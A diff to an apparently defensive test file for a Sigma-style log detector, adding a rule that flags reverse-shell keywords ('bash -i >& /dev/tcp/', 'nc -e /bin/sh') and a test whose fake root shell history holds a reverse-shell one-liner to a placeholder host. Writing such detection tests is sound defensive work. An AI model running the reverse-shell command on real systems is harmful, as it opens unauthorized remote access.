@@ -99,6 +99,12 @@ ENCODED = SIGMA + (
     "  cased: {message|contains|cased: RUN}\n"
     "  condition: selection and gone and there and cased\n"
 )
+TYPED = SIGMA + (
+    "logsource: {product: linux}\n"
+    "detection:\n"
+    "  keywords: ['bash -i >& /dev/tcp/', 'nc -e /bin/sh ']\n"
+    "  condition: keywords\n"
+)
 CHANGED = "|5|-rw-r--r--|0|0|9|1.0|1.0|1.0|0.0"
 PROCESSES = {
     "processes": "/proc/7/stat:7 (python3) S 5 7 7 0 -1 4194560 0\n/proc/7/status:Uid:\t0\t0\n"
@@ -197,8 +203,15 @@ CASES = {
     ),
     "modifiers": (
         ENCODED,
-        log("syslog", AUTH + "x: RUN L2Jpbi9iYXNo", AUTH + "x: run L2Jpbi9iYXNo", AUTH + "x: RUN xL2Jpbi9iYXN"),
+        log("syslog", AUTH + "x: RUN L2Jpbi9iYXNo", AUTH + "x: run L2Jpbi9iYXNo", AUTH + "x: RUN xL2Jpbi9iYXN")
+        | {"histories": {"/root/.bash_history": "x"}},
         ["/var/log/syslog:1"],
+    ),
+    "what was typed": (
+        TYPED,
+        log("syslog", AUTH + "x: bash -i")
+        | {"histories": {"/root/.bash_history": "id\nbash -i >& /dev/tcp/x/1 0>&1\n"}},
+        ["/root/.bash_history:2"],
     ),
 }  # fmt: skip
 
